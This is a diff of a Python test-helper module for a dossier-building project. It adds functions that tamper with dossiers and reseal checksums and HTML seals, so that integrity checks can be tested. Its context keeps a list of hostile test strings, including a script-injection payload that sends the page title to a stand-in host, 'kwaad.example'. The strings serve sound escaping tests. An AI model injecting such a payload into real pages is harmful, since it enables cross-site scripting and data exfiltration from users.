@@ -1,21 +1,27 @@
 """
-What the tests of dossiers share: hostile strings, a case that holds them everywhere, and what a reader gets to see.
+What the tests of dossiers share: hostile strings, a case that holds them everywhere, what a reader gets to see, and
+dossiers in which somebody changed something.
 """
 
 from __future__ import annotations
 
+import copy
 import html
 import io
 import re
 from collections.abc import Iterator
+from pathlib import Path
 from typing import Any
 
 import attrs
 
-from taaktoedeling.dossier.page import page_text
+from taaktoedeling.dossier.build import checksum
+from taaktoedeling.dossier.page import page_text, seal_of
+from taaktoedeling.dossier.verify_file import verify_file
 from taaktoedeling.model.casus import Casus
 from taaktoedeling.model.kader import Kader
 from taaktoedeling.reading.casus import casus_to_plain, load_casus, parse_casus, shipped_case
+from taaktoedeling.report.dossier_html import NO_SEAL
 
 HOSTILE = (
     "<script>fetch('http://kwaad.example/'+document.title);alert(1)</script>",
@@ -131,3 +137,27 @@ def _evaluated(evaluatie: dict[str, Any]) -> Iterator[str]:
 def changed(casus: Casus, **fields: Any) -> Casus:
     """A case with another task."""
     return attrs.evolve(casus, taak=attrs.evolve(casus.taak, **fields))
+
+
+def altered(dossier: dict[str, Any], *path: Any, to: Any, seal: bool = True) -> dict[str, Any]:
+    """A dossier with another value somewhere, and a checksum that fits or not."""
+    other = copy.deepcopy(dossier)
+    place = other
+    for step in path[:-1]:
+        place = place[step]
+    place[path[-1]] = to
+    return {**other, "sha256": checksum(other)} if seal else other
+
+
+def resealed(page: str) -> str:
+    """A page whose seal was made to fit."""
+    bare = re.sub(r'(content="sha256-)[0-9a-f]{64}', rf"\g<1>{NO_SEAL}", page, count=1)
+    return bare.replace(NO_SEAL, seal_of(bare), 1)
+
+
+def verify_text(tmp_path: Path, text: str, kader: Kader) -> Any:
+    """What comes of verifying a file with this text."""
+    path = tmp_path / "dossier"
+    path.write_text(text, encoding="utf-8")
+    (found,) = verify_file(path, kader)
+    return found
